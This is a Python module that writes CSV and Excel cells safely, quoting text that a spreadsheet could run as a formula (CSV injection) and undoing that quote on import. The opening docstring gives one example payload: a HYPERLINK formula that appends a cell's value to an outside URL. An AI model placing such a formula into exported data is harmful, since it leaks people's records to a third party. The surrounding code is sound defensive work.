"""Cells written from data are text, never formulas: the one place every file writer goes through.

A person named `=HYPERLINK("http://…?x="&C2,"点我")` must not become a live formula beside a
column of ID numbers (CSV or formula injection). As OWASP describes, a text value beginning with
`=`, `+`, `-`, `@`, a tab or a carriage return is written with a single quote in front, in `.csv`
and `.xlsx` alike; openpyxl stores any text beginning with `=` as a formula, and a quoted value
never begins with one. Numbers, dates and booleans stay typed: only text is touched, so a
negative amount is still a number.

Text that only spaces separate from such a character (`  =x`) is quoted too. Control
characters other than tab, line feed and carriage return are dropped both ways.

Imports undo it (`restore`): a value that is a quote followed by what `neutralise` would have
quoted loses that one quote, so a name exported and imported again is unchanged. To keep the
round trip exact for text that itself begins with quotes before a dangerous character
(`'=x`), `neutralise` quotes that too (`''=x`).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

QUOTE = "'"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
"""First characters a spreadsheet may read as the start of a formula (OWASP)."""
_QUOTED = (*DANGEROUS, "\n")
# A line feed too: .xlsx (XML) reads a carriage return back as one, and the quote in front of
# "\r=…" must still be recognised as the export's own when the file is imported.


_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
"""Control characters other than tab, line feed and carriage return: a workbook cell cannot hold
them (openpyxl refuses to write one) and PostgreSQL text cannot hold NUL, so no file is
written with them and no import takes them."""


def _quoted_danger(text: str) -> bool:
    # Leading spaces do not make a formula safe everywhere (indented names in `jiuye metrics`).
    return text.lstrip(QUOTE + " ").startswith(_QUOTED)


def _printable(text: str) -> str:
    # isprintable() is the fast path: it is true for almost every cell (Chinese included).
    return text if text.isprintable() else _CONTROL.sub("", text)


def neutralise(text: str) -> str:
    """The text to write for `text`: with a quote in front when a spreadsheet could run it, and
    without the control characters no workbook cell can hold."""
    text = _printable(text)
    return QUOTE + text if _quoted_danger(text) else text


def restore(text: str) -> str:
    """The text `neutralise` was given: an imported value without the quote an export added,
    and without control characters (NUL, which PostgreSQL text cannot hold, among them)."""
    text = _printable(text)
    return text[1:] if text.startswith(QUOTE) and _quoted_danger(text) else text


def safe_cell(value: object) -> object:
    """A cell value for any file a person opens: text neutralised, everything else as it is."""
    return neutralise(value) if isinstance(value, str) else value


def imported(value: object) -> object:
    """A cell value as read from a file: text restored, everything else as it is."""
    return restore(value) if isinstance(value, str) else value


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, writer: _Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row, text cells neutralised."""
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write rows, text cells neutralised."""
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, **options: Any) -> SafeCsvWriter:
    """A CSV writer for `stream` (options as `csv.writer` takes them) that never writes a formula."""
    return SafeCsvWriter(csv.writer(stream, **options))


__all__ = [
    "DANGEROUS",
    "QUOTE",
    "SafeCsvWriter",
    "csv_writer",
    "imported",
    "neutralise",
    "restore",
    "safe_cell",
]
